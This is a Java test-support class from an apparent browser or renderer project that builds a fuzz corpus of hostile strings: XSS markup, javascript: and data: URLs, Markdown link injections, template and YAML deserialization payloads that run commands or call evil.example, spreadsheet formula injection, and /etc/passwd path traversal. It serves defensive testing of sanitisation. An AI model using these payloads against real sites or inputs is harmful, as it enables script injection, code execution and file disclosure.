package org.rolebook.browser;

import java.util.ArrayList;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Locale;
import java.util.Set;
import java.util.function.UnaryOperator;

/**
 * Strings that would do harm if a page took them for more than text: payloads, each in several
 * surroundings. What a script among them would do is set {@code window.pwned} or ask {@code
 * evil.example} for something.
 */
final class HostileStrings {

  private static final String RUN = "window.pwned=1";

  private static final List<String> MARKUP =
      List.of(
          "<script>" + RUN + "</script>",
          "<ScRiPt src=//evil.example/x.js></sCrIpT>",
          "<script>" + RUN + "//<\0/script>",
          "<scr<script>ipt>" + RUN + "</scr</script>ipt>",
          "<img src=x onerror=" + RUN + ">",
          "<img src=//evil.example/x.png>",
          "<img src=`x`onerror=" + RUN + ">",
          "<svg onload=" + RUN + ">",
          "<svg><script href=//evil.example/x.js /></svg>",
          "<svg><a xlink:href=javascript:" + RUN + "><text>x</text></a></svg>",
          "<math><mtext><table><mglyph><style><img src onerror=" + RUN + ">",
          "<iframe src=javascript:" + RUN + "></iframe>",
          "<iframe srcdoc='<script>parent." + RUN + "</script>'>",
          "<object data='data:text/html,<script>" + RUN + "</script>'>",
          "<embed src=//evil.example/x.swf>",
          "<body onload=" + RUN + ">",
          "<details open ontoggle=" + RUN + ">",
          "<input autofocus onfocus=" + RUN + ">",
          "<video><source onerror=" + RUN + "></video>",
          "<marquee onstart=" + RUN + ">",
          "<style>@import '//evil.example/x.css';</style>",
          "<link rel=stylesheet href=//evil.example/x.css>",
          "<link rel=preload as=image href=//evil.example/x.png>",
          "<base href=//evil.example/>",
          "<meta http-equiv=refresh content='0;url=//evil.example/'>",
          "<form action=//evil.example/><button autofocus>x",
          "<a href=javascript:" + RUN + ">x</a>",
          "<p style=background:url(//evil.example/x.png)>x",
          "<noscript><p title='</noscript><img src=x onerror=" + RUN + ">'>",
          "<template><script>" + RUN + "</script></template>",
          "<!--><script>" + RUN + "</script>-->",
          "<![CDATA[<script>" + RUN + "</script>]]>",
          "<?xml-stylesheet href=\"//evil.example/x.css\"?>",
          "&lt;script&gt;" + RUN + "&lt;/script&gt;",
          "&#60;script&#62;" + RUN + "&#60;/script&#62;",
          "&#x3c;img src=x onerror=" + RUN + "&#x3e;",
          "\\u003cscript\\u003e" + RUN + "\\u003c/script\\u003e",
          "%3Cscript%3E" + RUN + "%3C/script%3E",
          "＜script＞" + RUN + "＜/script＞");

  private static final List<String> ADDRESSES =
      List.of(
          "javascript:" + RUN,
          "JaVaScRiPt:" + RUN,
          "java\tscript:" + RUN,
          "javascript&colon;" + RUN,
          "&#106;avascript:" + RUN,
          "vbscript:msgbox(1)",
          "data:text/html,<script>" + RUN + "</script>",
          "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
          "file:///etc/passwd",
          "blob:https://evil.example/x",
          "https://evil.example/x.js",
          "//evil.example/x.png",
          "\\\\evil.example\\x");

  private static final List<String> MARKDOWN =
      List.of(
          "[x](javascript:" + RUN + ")",
          "[x](<java script:" + RUN + ">)",
          "[x](java&Tab;script:" + RUN + ")",
          "[x](data:text/html;base64,PHNjcmlwdD4=)",
          "![x](//evil.example/x.png)",
          "![x](https://evil.example/x.png \"onerror=" + RUN + "\")",
          "![x](data:image/svg+xml,<svg/onload=" + RUN + ">)",
          "[x][y]\n\n[y]: javascript:" + RUN,
          "<javascript:" + RUN + ">",
          "[[x|<script>" + RUN + "</script>]]",
          "[[javascript:" + RUN + "]]",
          "`<script>" + RUN + "</script>`",
          "| a | <img src=x onerror=" + RUN + "> |\n|---|---|",
          "[^1]: <script>" + RUN + "</script>");

  private static final List<String> CODE =
      List.of(
          "${7*7}",
          "${\"freemarker.template.utility.Execute\"?new()(\"id\")}",
          "<#assign x=7*7>${x}",
          "<#include \"/etc/passwd\">",
          "<@x/>",
          "[=7*7]",
          "[#if true]x[/#if]",
          "#{7*7}",
          "{{7*7}}",
          "{{constructor.constructor('" + RUN + "')()}}",
          "<%= 7*7 %>",
          "!!javax.script.ScriptEngineManager [!!java.net.URL [\"http://evil.example\"]]",
          "&a [*a, *a]",
          "<<: *x",
          "%YAML 1.1",
          "{a: [b",
          "=cmd|' /C calc'!A0",
          "@SUM(1+1)*cmd",
          "\";" + RUN + ";//",
          "';" + RUN + ";//",
          "`;" + RUN + ";`",
          "\\\";" + RUN + ";//",
          "*/" + RUN + "/*",
          "../../../etc/passwd",
          "\u202E" + RUN + "\u202C",
          "\u2066" + RUN + "\u2069",
          "\uFEFF\u200B" + RUN + "\u200D",
          "\u2028" + RUN + "\u2029",
          "\uD800" + RUN,
          RUN + "\uDC00",
          "\uFFFE\uFFFF" + RUN,
          "e\u0301\u0323" + RUN,
          "\u0000\u0001\u0008\u000B" + RUN + "\u001B[31m\u007F");

  private static final List<UnaryOperator<String>> SURROUNDINGS =
      List.of(
          text -> text,
          text -> "前" + text + "后",
          text -> "\">" + text,
          text -> "'>" + text,
          text -> "-->" + text,
          text -> "</script>" + text,
          text -> "</title>" + text + "<title>",
          text -> "</style>" + text,
          text -> "</textarea>" + text,
          text -> "]]>" + text,
          text -> "\" onmouseover=" + RUN + " x=\"" + text,
          text -> text.toUpperCase(Locale.ROOT),
          text -> "**" + text + "**");

  private HostileStrings() {}

  /** All strings, each once. */
  static List<String> all() {
    Set<String> all = new LinkedHashSet<>();
    for (UnaryOperator<String> surrounding : SURROUNDINGS) {
      for (List<String> family : List.of(MARKUP, ADDRESSES, MARKDOWN, CODE)) {
        family.stream().map(surrounding).forEach(all::add);
      }
    }
    return List.copyOf(all);
  }

  /** Every so manieth string, beginning with each payload alone. */
  static List<String> some(int count) {
    List<String> all = all();
    List<String> some = new ArrayList<>();
    for (int i = 0; i < count; i++) {
      some.add(all.get((int) ((long) i * all.size() / count)));
    }
    return some;
  }

  /** A string, on one line, so written that Markdown takes it as it is. */
  static String escaped(String text) {
    return text.replace('\n', ' ').replaceAll("\\p{Punct}", "\\\\$0");
  }
}
